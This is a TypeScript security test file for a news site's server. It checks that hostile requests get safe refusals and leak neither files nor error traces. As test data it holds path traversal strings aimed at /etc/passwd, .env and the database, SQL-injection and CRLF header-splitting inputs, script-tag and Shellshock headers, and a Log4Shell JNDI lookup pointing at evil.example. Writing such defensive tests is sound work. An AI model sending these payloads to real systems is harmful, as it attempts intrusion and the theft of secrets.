import assert from 'node:assert/strict';
import { before, it } from 'node:test';
import fc from 'fast-check';
import { saveSection } from '../../src/stories/index.ts';
import { addMedia } from '../rig/full-story.ts';
import { contentOf, forEachSite, type Got, type PublishedStory } from '../rig/site.ts';

const asJson = { accept: 'application/json' };

forEachSite('hostile requests', {}, (get, dialect) => {
  let story: PublishedStory;
  let picture: string;

  before(async () => {
    await get().write((tx) => saveSection(tx, { slug: 'news', name: 'News' }));
    ({ picture } = await addMedia(get()));
    story = await get().publish(contentOf('A quiet day', { topics: ['calm'] }));
  });

  /** Refused in words and with a code, in JSON as in a page, and with all headers. */
  function assertRefused(got: Got, where: string, status?: number, code?: string): void {
    assert.ok(got.status >= 400 && got.status < 500, `${got.status} ${where}`);
    if (status !== undefined) assert.equal(got.status, status, where);
    if (String(got.headers['content-type']).startsWith('application/json')) {
      const { error } = JSON.parse(got.text) as { error: { code: string } };
      assert.match(error.code, /^[a-z-]+\.[a-z-]+$/, where);
      if (code !== undefined) assert.equal(error.code, code, where);
    }
    assert.ok(got.headers['content-security-policy'], where);
    assert.doesNotMatch(got.text, /\n\s+at |node_modules|\.ts:\d/, where);
  }

  /** Answers to request lines that no client of Node's would send. */
  const saying = async (target: string, headers = '') => {
    const answer = await get().say(
      Buffer.from(
        `GET ${target} HTTP/1.1\r\nHost: x\r\nAccept: application/json\r\n${headers}Connection: close\r\n\r\n`,
        'latin1',
      ),
    );
    const [head = '', ...body] = answer.split('\r\n\r\n');
    return { status: Number(head.split(' ')[1]), head, body: body.join('\r\n\r\n') };
  };

  it('reach no file but those that are meant for all', async () => {
    const up = [
      '..',
      '%2e%2e',
      '%2E.',
      '..%2f..',
      '..%5c..',
      '%252e%252e',
      '..%c0%af..',
      '....//',
      '..;',
      '.%00.',
    ];
    const targets = up.flatMap((part) => [
      `/assets/${part}/package.json`,
      `/assets/${part}%2fmanifest.json`,
      `/media/${part}/freesheet.sqlite`,
      `/media/${picture}/${part}/freesheet.sqlite`,
      `/media/${picture}/${part}%2foriginal.png`,
      `/media/${part}%2f${part}%2fetc/passwd`,
      `/sitemaps/${part}%2fpages.xml`,
      `/${part}/${part}/${part}/etc/passwd`,
    ]);
    targets.push(
      '/assets/%2fetc%2fpasswd',
      '/assets/C:%5cwindows%5cwin.ini',
      '/assets/manifest.json',
      '/assets/',
      '/assets/.',
      `/media/${picture}/original.png`,
      `/media/${picture}/item.json`,
      `/media/${picture}/`,
      `/media/${picture.toUpperCase()}/320.jpg`,
      `/media/${'z'.repeat(32)}/320.jpg`,
      '/media/.incoming/x/file.mp4',
      '/data/freesheet.sqlite',
      '/.env',
      '/.git/config',
      '/settings.json',
    );
    for (const target of targets) {
      const { status, body } = await saying(target);
      assert.ok(status >= 300 && status < 500, `${status} ${target}`);
      assert.doesNotMatch(body, /SQLite format|root:|"dependencies"|"sources"|\[core\]|DATA_DIR/, target);
    }
    assert.equal((await get().get(`/media/${picture}/480.jpg`)).status, 200);
  });

  it('are refused with a code where they cannot be read', async () => {
    for (const path of [
      '/%00',
      '/news%00',
      `${story.path}%00.html`,
      '/topics/%00',
      '/search?q=%00',
      '/search?q=a&section=%00',
      '/s/%00',
      '/text/%00',
      '/corrections?before=%00',
      '/feed.xml?%00',
      '/media/%00/x.jpg',
      '/assets/%00',
      '/sitemaps/%00',
    ]) {
      assertRefused(await get().get(path, asJson), path, 400, 'request.malformed');
      assertRefused(await get().get(path), path, 400);
    }
    for (const path of [
      '/%',
      '/%z',
      '/%zz',
      '/%ff',
      '/news/%c3',
      `${story.path}%e2%82`,
      '/topics/%ED%A0%80',
      '/text/2026/11/24/%80',
      '/authors/%C0%AF',
    ]) {
      assertRefused(await get().get(path, asJson), path, 400, 'request.malformed');
      assertRefused(await get().get(path), path, 400);
    }
    // A query is words that somebody typed: half of an escape in it is only odd.
    for (const query of ['%', '%zz', '%ff', '%ED%A0%80', 'a=%', '&&==', '?', '#', 'q=%e2%82']) {
      for (const path of ['/search', '/', '/news', '/text/search']) {
        assert.equal(
          (await get().get(`${path}?${query.replace('#', '%23')}`)).status,
          200,
          `${path}?${query}`,
        );
      }
    }
  });

  it('get 400 for a place in a list that there cannot be', async () => {
    const id = '00000000-0000-7000-8000-000000000000';
    const bad = [
      'x',
      '0',
      '-1',
      '1.2',
      `1.${id}x`,
      `x.${id}`,
      `99999999999999999.${id}`,
      `1.${id}' or '1'='1`,
      `1e5.${id}`,
      ' ',
      `1.${id.toUpperCase().replace('7', 'G')}`,
      '𝟙.x',
    ];
    const lists = [
      '/news',
      '/topics/calm',
      '/2026',
      '/2026/11/24',
      '/corrections',
      '/text/news',
      '/text/2026/11',
    ];
    for (const path of lists) {
      for (const cursor of bad) {
        const asked = `${path}?before=${encodeURIComponent(cursor)}`;
        assertRefused(await get().get(asked, asJson), asked, 400, 'list.bad-cursor');
      }
      for (const cursor of [`0.${id}`, `-9999999999999999.${id}`]) {
        const got = await get().get(`${path}?before=${cursor}`);
        assert.ok([200, 404].includes(got.status), `${got.status} ${path} ${cursor}`);
      }
      assert.equal((await get().get(`${path}?before=9999999999999999.${id}`)).status, 200, path);
    }
    for (const after of ['-1', '9999', '99999999', 'x', '1e3', '0x10', '1.5']) {
      assert.equal((await get().get(`/search?q=quiet&after=${after}`)).status, 200, after);
    }
  });

  it('may be long, and are cut off where they have no end', async () => {
    const long = 'a'.repeat(8000);
    for (const path of [
      '/',
      '/news',
      story.path,
      '/search',
      '/text',
      '/feed.xml',
      '/corrections',
      '/nowhere',
      '/s/x',
    ]) {
      for (const query of [
        `q=${long}`,
        long,
        `${'a=b&'.repeat(2000)}c`,
        `utm_source=${long}`,
        `q=${'%22a%20-'.repeat(900)}`,
        `q=${'%F0%9F%A6%9B'.repeat(600)}`,
      ]) {
        const got = await get().get(`${path}?${query}`);
        assert.ok(got.status < 500, `${got.status} ${path}`);
      }
    }
    for (const path of [
      `/${long}`,
      `/topics/${long}`,
      `/2026/11/24/${long}`,
      `/s/${long}`,
      `/text/${long}`,
      `/assets/${long}`,
      `/media/${long}/320.jpg`,
      '/a'.repeat(3000),
    ]) {
      assertRefused(await get().get(path, asJson), path.slice(0, 40));
    }
    const { status, body } = await saying(`/search?q=${'a'.repeat(20_000)}`);
    assert.equal(status, 431);
    assert.match(body, /request\.malformed/);
  });

  it('change no header of the answer', async () => {
    const plain = await get().get(story.path);
    const strange = {
      host: 'evil.example',
      'x-forwarded-host': 'evil.example',
      'x-forwarded-proto': 'javascript',
      'x-forwarded-for': '"><script>alert(1)</script>',
      'x-original-url': '/nowhere',
      'x-rewrite-url': '/nowhere',
      'x-http-method-override': 'DELETE',
      forwarded: 'host=evil.example;proto=http',
      'accept-language': '"><script>',
      'accept-encoding': 'identity;q=1, *;q=0, ;;;',
      'save-data': 'ON\tevil',
      cookie: `${'a=b; '.repeat(500)}c`,
      range: 'bytes=0-1, 5-',
      'if-none-match': '*/"',
      'if-modified-since': 'yesterday',
      referer: 'https://evil.example/"><script>',
      'user-agent': '() { :; }; ${jndi:ldap://evil.example/x}',
      origin: 'https://evil.example',
      te: 'trailers',
      accept: 'text/html;q=nan,*/*',
    };
    for (const [name, value] of [...Object.entries(strange), ['all', 'all'] as const]) {
      const headers = name === 'all' ? strange : { [name]: value };
      const got = await get().get(story.path, headers);
      assert.equal(got.status, 200, name);
      assert.equal(got.text, plain.text, name);
      const { date: _, ...same } = got.headers;
      const { date: __, ...expected } = plain.headers;
      assert.deepEqual(same, expected, name);
    }
    for (const [target, header] of [
      [`${story.path}/%0d%0aX-Evil:%20yes`, ''],
      ['/NEWS?a=%0d%0aX-Evil:%20yes', ''],
      ['/NEWS/%0aX-Evil:yes', ''],
      ['/news', 'X-A: b\r\n X-Evil: yes\r\n'],
      ['/NEWS?\u0085X-Evil:yes', ''],
    ] as const) {
      const { head, status } = await saying(target, header);
      assert.ok(status < 500, target);
      assert.doesNotMatch(head, /^x-evil/im, target);
    }
  });

  it('of whatever kind get an answer that is no fault of ours', async () => {
    const pieces = fc.constantFrom(
      ...'/ // . .. % %00 %2f %5c %0d%0a %ff %F0%9F%A6%9B ? & = ; : @ \\ " \' < > ` { | ~ ^ * + -1'.split(
        ' ',
      ),
      ...'news text topics authors series search s media assets feed.xml feed.json sitemaps'.split(' '),
      ...'2026 11 24 0000 9999 99 before after q section from to null undefined __proto__'.split(' '),
      ...'constructor toString $ne 1=1-- \u0662\u0660\u0662\u0666 \u0130 \u00df \u{1f99b}'.split(' '),
      story.path,
      picture,
    );
    await fc.assert(
      fc.asyncProperty(fc.array(pieces, { minLength: 1, maxLength: 9 }), async (parts) => {
        const target = `/${parts.join('')}`;
        const { status, head } = await saying(Buffer.from(target, 'utf8').toString('latin1'));
        assert.ok(status >= 200 && status < 500, `${status} ${JSON.stringify(target)}`);
        assert.match(head, /content-security-policy/i);
      }),
      { numRuns: dialect === 'sqlite' ? 400 : 200 },
    );
  });
});
